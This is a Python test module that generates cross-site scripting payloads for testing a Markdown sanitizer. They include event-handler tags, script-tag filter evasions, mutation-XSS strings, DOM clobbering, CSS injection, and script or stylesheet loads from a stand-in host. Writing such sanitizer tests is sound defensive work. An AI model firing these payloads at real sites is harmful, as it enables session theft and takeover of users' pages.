"""Texts that try to run something in a reader's browser, or to load something from elsewhere: kinds times carriers.

The kinds are those that the lists of the field know (OWASP's cheat sheet of filter evasion, html5sec.org, the
specification of CommonMark, the published ways around sanitizers by mutation); every text is written here. What runs
calls ``ran()``, which a page of the tests plants, and what loads asks ``evil.example``.
"""

from __future__ import annotations

from collections.abc import Iterator
from html import escape
from itertools import product

from tests.xss_addresses import ELSEWHERE, LIVE, RUN, SCRIPT, addresses


def tags() -> Iterator[str]:
    """Each element that can run something by itself, or once a reader touches it."""
    handlers = {
        "svg": "onload",
        "body": "onload",
        "iframe": "onload",
        "style": "onload",
        "link rel=stylesheet href=/x.css": "onerror",
        "img src=x": "onerror",
        "image src=x": "onerror",
        "audio src=x": "onerror",
        "video src=x": "onerror",
        "input type=image src=x": "onerror",
        "object data=x": "onerror",
        "embed src=x": "onload",
        "script src=x": "onerror",
        "track src=x default": "onerror",
        "input autofocus": "onfocus",
        "select autofocus": "onfocus",
        "textarea autofocus": "onfocus",
        "button autofocus": "onfocus",
        "a href=/ autofocus tabindex=0": "onfocus",
        "p tabindex=0 autofocus": "onfocusin",
        "details open": "ontoggle",
        "dialog open": "onclose",
        "marquee": "onstart",
        "table": "onmouseover",
        "p": "onpointerenter",
        "form": "onsubmit",
        "b contenteditable": "oninput",
        "div style=animation-name:x": "onanimationstart",
        "p style=transition:1s": "ontransitionend",
        "p hidden=until-found": "onbeforematch",
        "div popover": "onbeforetoggle",
        "my-element": "onclick",
        "math": "onclick",
    }
    for tag, handler in handlers.items():
        yield f"<{tag} {handler}={RUN}>"
        yield f"<{tag} {handler}='{RUN}'>x</{tag.partition(' ')[0]}>"
    parts = [
        "/",
        "//",
        "\n",
        "\t",
        "\f",
        "\r\n",
        " / ",
        " \x0b",
        "\x00",
        '""',
        "''",
        " x=",
        " x='",
        "=",
        "&#32;",
        "\xa0",
    ]
    for between, quoted in product(parts, ["", '"', "'", "`"]):
        yield f"<img src=/media/x.webp{between}onerror={quoted}{RUN}{quoted}>"
        yield f"<svg{between}onload={quoted}{RUN}{quoted}>"
    for name in [
        "onerror",
        "ONERROR",
        "OnErRoR",
        "on\x00error",
        "on&#101;rror",
        "\x01onerror",
        "onerror\x0b",
        "{onerror",
    ]:
        yield f"<img src=x {name}={RUN}>"
    for code in [
        "&#114;an(1)",
        "&#x72;an(1)",
        "ran&lpar;1&rpar;",
        "\\u0072an(1)",
        "ran`1`",
        "top['r'+'an'](1)",
        "ran(1)//",
    ]:
        yield f"<img src=x onerror={code}>"


def scripts() -> Iterator[str]:
    for opening in [
        *["<script>", "<SCRIPT>", "<ScRiPt>", "<script >", "<script\n>", "<script/>", "<script/x>", "<script x=>>"],
        *["<<script>", "<scr<script>ipt>", "<script\x00>", "<script\x0c>", "<s\x00cript>", "</script><script>"],
        *['<script "x>', "<script type=module>", "<script a='>'>", "<svg><script>", "<math><script>", "<svg:script>"],
        *["\ufeff<script>", "＜script＞", "<script\u2028>", "%3Cscript%3E", "+ADw-script+AD4-", "&#60;script&#62;"],
        *[
            "&lt;script&gt;",
            "&amp;lt;script&amp;gt;",
            "\\<script>",
            "<\\script>",
            "< script>",
            "<!script>",
            "<?script>",
        ],
    ]:
        for closing in ["</script>", "</SCRIPT\n>", "</script x>", "</scr</script>ipt>", "", "//"]:
            yield f"{opening}{RUN}{closing}"
    for source in [
        f"//{ELSEWHERE}/x.js",
        f"https://{ELSEWHERE}/x.js",
        f"data:,{RUN}",
        f"data:text/javascript,{RUN}",
        "/\\x",
    ]:
        yield f"<script src={source}></script>"
        yield f"<svg><script href='{source}'/></svg>"
        yield f"<script src='{source}' defer></script"


def mutations() -> Iterator[str]:
    """What is one thing when it is read and another when it is written and read again."""
    raw = [
        "style",
        "title",
        "noscript",
        "noembed",
        "noframes",
        "xmp",
        "textarea",
        "iframe",
        "script",
        "plaintext",
        "template",
    ]
    around = [
        "{}",
        "<svg>{}",
        "<math>{}",
        "<svg></p>{}",
        "<svg></br>{}",
        "<svg><p>{}",
        "<math></p>{}",
        "<svg><desc>{}",
        "<svg><title>{}",
        "<svg><foreignObject>{}",
        "<math><mtext>{}",
        "<math><mi><svg>{}",
        "<math><mtext><table><mglyph>{}",
        "<math><mtext><mglyph><svg><mtext>{}",
        "<math><annotation-xml encoding=text/html>{}",
        "<math><annotation-xml encoding=text/html><svg>{}",
        "<form><math><mtext></form><form><mglyph>{}",
        "<table><caption><svg>{}",
        "<table><select><table>{}",
        "<select><template>{}",
        "<option><svg>{}",
        "<details><summary><svg>{}",
    ]
    for outside, tag in product(around, raw):
        yield outside.format(f"<{tag}><a title='</{tag}>{LIVE}'>")
        yield outside.format(f'<{tag}><!--</{tag}>{LIVE}--><p title="-->{LIVE}">')
    for outside in around:
        yield outside.format(f'<style><a id="</style>{escape(LIVE)}">')
        yield outside.format(f"<b title='{escape(LIVE)}'>x</b>")
        yield outside.format(f"<![CDATA[><{LIVE}]]>")
    for number in (20, 60, 200, 513):
        yield f"{'<b>' * number}<svg><style>{LIVE}</style>"
        yield f"{'<table><td>' * number}{LIVE}"
        yield f"{'<div>' * number}<math><mtext><table><mglyph><style><!--</style>{LIVE}"
        yield f"{'> ' * number}{LIVE}"


def comments() -> Iterator[str]:
    for opening, closing in product(
        [
            "<!--",
            "<!-->",
            "<!--->",
            "<!---",
            "<!-",
            "<!",
            "<!--[if IE]>",
            "<?",
            "<?xml ",
            "<![CDATA[",
            "<!DOCTYPE x [",
            "</",
            "</!",
        ],
        ["-->", "--!>", "->", "<!-->", "?>", "]]>", "<![endif]-->", ">", ""],
    ):
        yield f"{opening}{LIVE}{closing}"
        yield f"{opening} {closing}{LIVE}"
    yield f"<!ENTITY x '{SCRIPT}'>&x;"
    yield f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>"


def breakouts() -> Iterator[str]:
    """Words that try to leave the attribute or the element into which Markdown puts them."""
    ends = [
        *[
            f'"><{LIVE[1:]}',
            f"'>{LIVE}",
            f'" onerror="{RUN}',
            f"' onmouseover='{RUN}",
            f'"onfocus="{RUN}" autofocus x="',
        ],
        *[
            f"&quot;>{LIVE}",
            f"&#34; onerror=&#34;{RUN}",
            f"`onerror={RUN}`",
            f'\\" onerror=\\"{RUN}',
            f'\x00" onerror={RUN}',
        ],
        *[
            f"</a>{LIVE}",
            f"</code>{LIVE}",
            f"</script>{SCRIPT}",
            f"]]>{LIVE}",
            f"-->{LIVE}",
            f"</title>{LIVE}",
            f"\u2028{LIVE}",
        ],
        *[f"{{{{constructor.constructor('{RUN}')()}}}}", "${ran(1)}", "{% debug %}{{ request }}", "<%= ran(1) %>"],
    ]
    places = [
        *[
            "[x](/y '{}')",
            '[x](/y "{}")',
            "[x](/y ({}))",
            "[x](/y{})",
            "[x](</y{}>)",
            "[{}](/y)",
            "[x]: /y '{}'\n\n[x]",
        ],
        *[
            "![{}](/media/x.webp)",
            "![x](/media/x.webp '{}')",
            "![x](/media/{})",
            "![x][y]\n\n[y]: /media/x '{}'",
            "# {}",
        ],
        *[
            "## x {{#{}}}",
            "```{}\nx\n```",
            "~~~ x {}\nx\n~~~",
            "`{}`",
            "    {}",
            "x[^{0}]\n\n[^{0}]: y",
            "x[^y]\n\n[^y]: {}",
        ],
        *[
            "| {} |\n|:-:|\n| {} |",
            "|x|\n|{}|\n|y|",
            "> Dear ____,\n>\n> {}",
            "<abbr title='{}'>x</abbr>",
            "<th scope='{}'>",
        ],
        *[
            "<ol start='{}'><li>x</ol>",
            "<td colspan='{}'>x",
            "<a href='/x{}'>x</a>",
            "<p class='{}'>x</p>",
            "<p {}>x</p>",
        ],
        *[
            "<{}>",
            "</{}>",
            "<https://x.example/{}>",
            "<a@x.example{}>",
            "- [ ] {}",
            "***{}***",
            "~~{}~~",
            "<details {}>",
        ],
    ]
    for place, end in product(places, ends):
        yield place.replace("{0}", end).replace("{}", end).replace("{{", "{").replace("}}", "}")


def clobbering() -> Iterator[str]:
    """Ids and names by which an element stands where a script expects something of the browser's."""
    for name in [
        "location",
        "document",
        "forms",
        "cookie",
        "body",
        "nodeName",
        "ran",
        "csrfmiddlewaretoken",
        "id_title",
        "__proto__",
    ]:
        for element in [
            "<a id={0} name={0} href=/x>x</a>",
            "<img id={0} name={0} src=/media/x.webp>",
            "<h2 id={0}>x</h2>",
        ]:
            yield element.format(name)
        yield f"<form id={name} name={name}><input name=action id=submit></form>"
        yield f"<iframe name={name} srcdoc='{escape(SCRIPT)}'></iframe>"
        yield f"<object id={name} name={name}></object><embed name={name}>"
        yield f"# {name}\n\n[x](#{name}) [^{name}]\n\n[^{name}]: y"
        yield f"<li id=section-{name}>x</li><p id=note-1 class='nhsuk-button {name}'>x</p>"
        yield f"<p slot={name} part={name} is={name} data-{name}={name} itemprop={name} aria-owns={name}>x</p>"


def styles() -> Iterator[str]:
    for rule in [
        f"background:url(//{ELSEWHERE}/x)",
        f"background:url('javascript:{RUN}')",
        f"width:expression({RUN})",
        f"behavior:url(//{ELSEWHERE}/x.htc)",
        f"-moz-binding:url(//{ELSEWHERE}/x.xml#x)",
        "position:fixed;inset:0;z-index:9999",
        f"@import '//{ELSEWHERE}/x.css'",
        f"list-style-image:url(//{ELSEWHERE}/x)",
        f"\\62 ackground:url(//{ELSEWHERE}/x)",
    ]:
        yield f'<p style="{rule}">x</p>'
        yield f"<style>*{{{rule}}}</style>"
        yield f"<style>{rule}"
        yield f"<svg><style>*{{{rule}}}</style></svg>"
        yield f"<font style='{rule}' color='{rule}' face='{rule}'>x</font>"


def payloads() -> list[str]:
    """All of them, each once."""
    kinds = [tags, scripts, addresses, mutations, comments, breakouts, clobbering, styles]
    return list(dict.fromkeys(payload for kind in kinds for payload in kind()))


# Around a text, as an editor's page may have it.
CARRIERS = [
    "{}",
    "text {} text",
    "- {}\n- b",
    "> {}",
    "1. a\n\n   {}",
    "<p>{}</p>",
    "<table><tr><td>{}",
    "<details>\n<summary>{}</summary>\n\nx\n\n</details>",
    "| {} |\n|--|\n| b |",
    "[{}](/x)",
    "**{}**",
    "a[^1]\n\n[^1]: {}",
]
